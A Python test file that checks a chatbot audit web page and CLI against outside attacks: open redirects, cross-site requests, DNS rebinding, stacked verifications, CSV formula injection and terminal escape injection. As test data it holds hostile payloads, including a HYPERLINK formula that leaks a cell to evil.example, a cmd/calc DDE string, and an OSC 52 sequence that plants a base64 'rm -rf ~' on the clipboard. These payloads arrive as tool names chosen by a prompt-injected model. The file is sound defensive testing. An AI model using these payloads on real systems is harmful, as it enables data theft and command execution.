"""The audit page and `chatops audit` attacked from outside: by a prompt-injected model choosing
what lands in the log (tool names, arguments), by an outsider on the network (Host header, links
that bounce through the page), by another site the operator visits (cross-site requests to "Verify
now" and background loads), by many verifications at once, by hostile query strings, and by
someone editing the database behind a page that has already said "intact". Real servers, real HTTP,
real processes."""

from __future__ import annotations

import asyncio
import csv
import io
import os
import re
import threading
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from bot.auditweb.page import PAGE
from storage.audit import AuditLog
from storage.engine import Database, make_sync_engine, normalise_url
from storage.models import AuditEvent
from storage.redact import Redactor
from tests.audit_page_helpers import audit_page, fill_log, form_token, post_verify, tamper
from tests.fakes.openai_server import calls, text
from tests.support_tools import Ledger, notes_toolset
from tests.test_cli import CHATOPS

TOKEN = "audit-page-token-0123456789"
# Tool names a prompt-injected model can choose: the bot records them as `tool_call_invalid` rows.
FORMULA_TOOL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the run")'
ESCAPE_TOOL = (
    "x\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2J\x1b[1;1H\n999  2026-01-01 00:00:00  approval_decided  run-fake  ap-fake  boss  ok"
)


@pytest.fixture
async def filled(sqlite_url, terminal_bot, model):
    return await fill_log(terminal_bot, model, sqlite_url)


async def injected_tool_names(terminal_bot, model, url: str, *names: str) -> None:
    """A real run in which the model calls tools that do not exist, named as an attacker likes."""
    model.script(calls(*((name, {"topic": "x"}) for name in names)), text("Done."))
    bot = await terminal_bot(toolsets=[notes_toolset(Ledger())], database_url=url)
    await bot.say("please do the thing in the attached document")
    await bot.app.ctx.audit.chain(bot.app.ctx.db)


async def run_cli(url: str, tmp_path: Path, *args: str) -> tuple[int, bytes, bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("CHATOPS_", "OPENAI_", "SLACK_", "FEISHU_"))}
    env["DATABASE_URL"] = url
    proc = await asyncio.create_subprocess_exec(
        *CHATOPS, *args, env=env, cwd=tmp_path, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE
    )
    out, err = await asyncio.wait_for(proc.communicate(), 60)
    assert proc.returncode is not None
    return proc.returncode, out, err


# --- open redirect through "Verify now" ---------------------------------------------------------


@pytest.mark.parametrize("next_", ["/\t/evil.example/", "/\n/evil.example/", "/\r/evil.example/", "/\t\\evil.example/"])
async def test_verify_never_sends_the_browser_off_the_page(filled, next_):
    """`/verify?next=/%09/evil.example/` must not become `Location: //evil.example/` (browsers drop
    tabs and line breaks from URLs, so the check on the raw value is not enough)."""
    async with audit_page(filled.url) as client:
        response = await post_verify(client, next_=next_)
    assert response.status == 303
    location = response.headers["Location"]
    assert location.startswith("/") and not re.match(r"^/[\s/\\]", location), location


# --- cross-site requests: "Verify now" is the page's own POST, nothing else -----------------------


async def test_opening_verify_changes_nothing(filled):
    """`<img src="http://127.0.0.1:8765/verify">` on any site ran a whole-chain verification in the
    operator's browser and changed the badge. A GET now answers 405 and verifies nothing."""
    async with audit_page(filled.url) as client:
        opened = await client.get("/verify", params={"next": "/"}, allow_redirects=False)
        html = await opened.text()
        after = await (await client.get("/")).text()
    assert opened.status == 405 and opened.headers["Allow"] == "POST"
    assert "is a button on the audit page" in html and "changes nothing" in html
    assert 'data-state="unverified"' in after


FORM_POST = {"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}  # as a submitted form says
FOREIGN_POSTS = {
    "another site (fetch metadata)": {**FORM_POST, "Sec-Fetch-Site": "cross-site"},
    "a sibling site: another port or subdomain": {**FORM_POST, "Sec-Fetch-Site": "same-site"},
    "another origin": {"Origin": "http://evil.example"},
    "an opaque origin (sandboxed frame)": {"Origin": "null"},
    "another port on this machine": {"Origin": "http://127.0.0.1:1"},
}


@pytest.mark.parametrize("headers", FOREIGN_POSTS.values(), ids=FOREIGN_POSTS.keys())
async def test_a_verification_posted_from_another_site_is_refused(filled, headers):
    """Even with a valid form token (as an old page of ours could leak), a POST that the browser
    marks as coming from another site or origin is refused, and the badge does not move."""
    async with audit_page(filled.url) as client:
        refused = await post_verify(client, headers=headers)
        html = await refused.text()
        after = await (await client.get("/")).text()
    assert refused.status == 403 and "Verification refused" in html and "click “Verify now” there" in html
    assert 'data-state="unverified"' in after


async def test_a_verification_without_this_pages_form_token_is_refused(filled):
    """A browser that sends neither fetch metadata nor Origin (an old one, a plugin) is stopped by
    the token: none, a forged one, or one from another audit page process (another secret)."""
    async with audit_page(filled.url) as other:
        elsewhere = await form_token(other)
    async with audit_page(filled.url) as client:
        token = await form_token(client)
        forged = token.rsplit(".", 1)[0] + "." + "0" * 64
        refused = [await post_verify(client, given) for given in ("", "1.2.3", forged, elsewhere)]
        bodies = [await r.text() for r in refused]
        after = await (await client.get("/")).text()
        own_origin = {"Sec-Fetch-Site": "same-origin", "Origin": f"http://127.0.0.1:{client.port}"}
        accepted = await post_verify(client, token, headers=own_origin)
        verified = await (await client.get("/")).text()
    assert [r.status for r in refused] == [403] * 4
    assert all("no valid token of this page" in b for b in bodies)
    assert 'data-state="unverified"' in after
    assert accepted.status == 303 and 'data-state="intact"' in verified


BACKGROUND = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}


@pytest.mark.parametrize("path", ["/", "/?q=anything", "/export.csv", "/export.jsonl", "/static/audit.css"])
async def test_another_site_cannot_load_the_pages_in_the_background(filled, path):
    """Every GET is a database read (a search over all rows' data, a whole-log download): another
    site's `<img>` loop must not make the operator's browser run them. A link followed still works."""
    async with audit_page(filled.url) as client:
        loaded = await client.get(path, headers=BACKGROUND)
        body = await loaded.text()
        navigation = {**BACKGROUND, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
        followed = await client.get(f"/run/{filled.run_id}", headers=navigation)
    assert loaded.status == 403 and filled.run_id not in body
    assert followed.status == 200


class HeldVerifications:
    """Counts the verifications that reach the database (each starts with the chain head) and holds
    the first one there until released: an engine event, seen from outside the page's code."""

    def __init__(self, engine: Any) -> None:
        self.started, self.armed = 0, True
        self.first_in, self.release = threading.Event(), threading.Event()
        sa.event.listen(engine, "before_cursor_execute", self._seen)

    def _seen(self, conn: Any, cursor: Any, statement: str, *rest: Any) -> None:
        if self.armed and statement.lower().startswith("select max(audit_event.seq)"):
            self.started += 1
            if self.started == 1:
                self.first_in.set()
                self.release.wait(60)

    def stop(self) -> None:
        self.armed = False  # (the listener stays: removing it under a running statement breaks that statement)
        self.release.set()


async def test_verifications_are_never_stacked(filled):
    """Each "Verify now" walked the whole chain in its own thread: N requests, N full verifications
    at once. While one runs, another request is told so (its page says "verifying since …") and
    starts none; the one running still records its result."""
    async with audit_page(filled.url) as client:
        tokens = [await form_token(client) for _ in range(6)]
        held = HeldVerifications(client.server.app[PAGE].engine)
        try:
            first = asyncio.create_task(post_verify(client, tokens[0]))
            assert await asyncio.to_thread(held.first_in.wait, 30)
            others = [await asyncio.wait_for(post_verify(client, token), 30) for token in tokens[1:]]
            started = held.started
            running = await (await client.get(others[0].headers["Location"])).text()
        finally:
            held.stop()
        done = await asyncio.wait_for(first, 30)
        after = await (await client.get("/")).text()
    assert started == 1, f"{started} verifications ran at once"
    assert [r.status for r in others] == [303] * 5 and done.status == 303
    assert "verifying since" in running and 'http-equiv="refresh"' in running  # and it looks again shortly
    assert 'data-state="intact"' in after and "verifying since" not in after


# --- DNS rebinding: the page answers any Host name ------------------------------------------------


@pytest.mark.parametrize("host", ["rebind.evil.example", "rebind.evil.example:8765", "127.0.0.1.evil.example"])
async def test_without_a_token_only_loopback_host_names_are_served(filled, host):
    """Without a token the page trusts that only this machine can reach it; a web page whose name
    resolves to 127.0.0.1 (DNS rebinding) reaches it too, with its own origin, unless the Host
    header is checked."""
    async with audit_page(filled.url) as client:
        rebound = await client.get("/export.jsonl", headers={"Host": host})
        body = await rebound.text()
        local = await client.get("/", headers={"Host": f"localhost:{client.port}"})
    assert local.status == 200
    assert rebound.status in (400, 403, 421) and filled.run_id not in body


# --- query strings: a clear 4xx, never a 5xx -------------------------------------------------------


@pytest.mark.parametrize(
    "path,params",
    [
        ("/", {"before": "99999999999999999999"}),
        ("/", {"after": "9" * 40}),
        ("/", {"since": "99999999999d"}),
        ("/", {"until": "9999999999999w"}),
        ("/", {"since": "9999-12-31T23:59:59-23:59"}),
        ("/", {"size": "ten"}),
        ("/", {"size": "-5"}),
        ("/export.csv", {"since": "99999999999d"}),
        ("/export.jsonl", {"until": "9999-12-31T23:59:59-23:59"}),
    ],
)
async def test_absurd_query_values_are_named_in_a_400(filled, path, params):
    async with audit_page(filled.url) as client:
        response = await client.get(path, params=params)
        html = await response.text()
    (value,) = params.values()
    assert response.status == 400, (response.status, html[-400:])
    assert value in html or repr(value) in html


# --- CSV formula injection --------------------------------------------------------------------------


async def test_csv_exports_do_not_hand_a_spreadsheet_a_formula(sqlite_url, terminal_bot, model, tmp_path):
    """A model told by a document to call a tool named `=HYPERLINK(...)` gets a `tool_call_invalid`
    row whose tool is that name; opened in a spreadsheet, the CSV must show text, not a live link."""
    await injected_tool_names(terminal_bot, model, sqlite_url, FORMULA_TOOL, "@SUM(1+1)*cmd|' /C calc'!A0")
    async with audit_page(sqlite_url) as client:
        page_csv = await (await client.get("/export.csv", params={"kind": "tool_call_invalid"})).text()
    code, cli_csv, _ = await run_cli(sqlite_url, tmp_path, "audit", "export", "--format", "csv")
    assert code == 0
    for exported in (page_csv, cli_csv.decode()):
        rows = list(csv.DictReader(io.StringIO(exported)))
        invalid = [r for r in rows if r["kind"] == "tool_call_invalid"]
        assert len(invalid) == 2
        for row in rows:
            cells = [v for k, v in row.items() if k != "data"]
            assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], row


# --- terminal escapes in `chatops audit list / show` ------------------------------------------------


async def test_audit_list_and_show_print_no_terminal_escapes(sqlite_url, terminal_bot, model, tmp_path):
    """A tool name with OSC 52 (write the operator's clipboard), a clear-screen and a line break
    followed by a forged row must reach the terminal as inert text: one line per row."""
    await injected_tool_names(terminal_bot, model, sqlite_url, ESCAPE_TOOL)
    engine = make_sync_engine(normalise_url(sqlite_url))
    with engine.connect() as conn:
        rows = conn.execute(sa.select(sa.func.count()).select_from(AuditEvent)).scalar_one()
        run_id = conn.execute(sa.select(AuditEvent.run_id).where(AuditEvent.kind == "tool_call_invalid")).scalar_one()
    engine.dispose()
    code, listed, _ = await run_cli(sqlite_url, tmp_path, "audit", "list", "--limit", "1000")
    show_code, shown, _ = await run_cli(sqlite_url, tmp_path, "audit", "show", run_id)
    assert code == 0 and show_code == 0
    for out in (listed, shown):
        assert b"\x1b" not in out and b"\x07" not in out and b"\x9b" not in out
    assert len(listed.splitlines()) == rows + 1  # the header and one line per row: no forged row
    assert b"run-fake" not in b"".join(line for line in listed.splitlines() if line[:1].isdigit() and line.startswith(b"999"))


# --- the badge after the database changed behind the page -------------------------------------------


async def test_the_badge_does_not_vouch_for_rows_deleted_after_verification(filled):
    """Verify (intact, rows 1–N), then delete the newest rows straight in the database: the page
    must not go on saying "Rows 1–N verified" about rows that are gone."""
    async with audit_page(filled.url) as client:
        await post_verify(client)
        before = await (await client.get("/")).text()
        engine = make_sync_engine(normalise_url(filled.url))
        with engine.begin() as conn:
            conn.execute(sa.delete(AuditEvent).where(AuditEvent.seq > filled.rows - 3))
        engine.dispose()
        after = await (await client.get("/")).text()
    assert 'data-state="intact"' in before and f"Rows 1–{filled.rows} verified" in before
    assert f"{filled.rows - 3} matching rows" in after
    assert 'data-state="intact"' not in after, re.search(r'<div class="chain".*?</div>', after, re.S)[0]  # type: ignore[index]


async def test_the_badge_does_not_vouch_for_a_row_edited_after_verification(filled):
    """Verify (intact), then edit a row in the database: the list shows the edited value; it must
    not show it under "chain intact" with nothing marking the row."""
    async with audit_page(filled.url) as client:
        await post_verify(client)
        tamper(filled.url, 3)
        html = await (await client.get("/")).text()
    assert "terminal:local:mallory" in html
    marked = re.search(r'<tr class="([^"]*)" data-seq="3">', html)
    assert 'data-state="intact"' not in html or (marked and "bad" in marked[1])


# --- a huge row ----------------------------------------------------------------------------------------


async def test_a_huge_argument_does_not_make_every_page_huge(filled):
    """Three tool proposals with a 10 MB argument (a model can write that much): the log's first
    page must stay a page, not 80 MB of HTML for each visitor (50 such rows: gigabytes)."""
    db, audit = Database(filled.url), AuditLog(Redactor())
    try:
        for _ in range(3):
            async with db.transaction() as session:
                await audit.record(
                    session, "tool_proposed", run_id="run-huge", tool="write_note", status="approval",
                    args={"topic": "x", "text": "<b>&" * (10 * 1024 * 1024 // 4)},
                )  # fmt: skip
        await audit.chain(db)
    finally:
        await db.dispose()
    async with audit_page(filled.url) as client:
        log_page = await client.get("/")
        log_html = await log_page.text()
        run = await client.get("/run/run-huge")
        run_html = await run.text()
        jsonl = await client.get("/export.jsonl", params={"q": "run-huge"})
        lines = (await jsonl.text()).splitlines()
    assert log_page.status == 200 and run.status == 200
    assert len(lines) == 3 and all(len(line) > 10 * 1024 * 1024 for line in lines)  # the download keeps everything
    assert len(log_html) < 2 * 1024 * 1024, len(log_html)
    assert len(run_html) < 2 * 1024 * 1024, len(run_html)


# --- a token in the address bar ---------------------------------------------------------------------


async def test_a_token_in_the_query_is_traded_for_the_cookie_and_leaves_the_address(filled):
    """`/?token=…` sets the cookie; the answer should send the browser to the same page without the
    token, so it does not stay in the address bar, the history and bookmarks."""
    async with audit_page(filled.url, token=TOKEN) as client:
        first = await client.get("/", params={"token": TOKEN, "kind": "model_call"}, allow_redirects=False)
    assert first.status in (302, 303) and "chatops_audit" in first.cookies
    assert first.headers["Location"] == "/?kind=model_call"
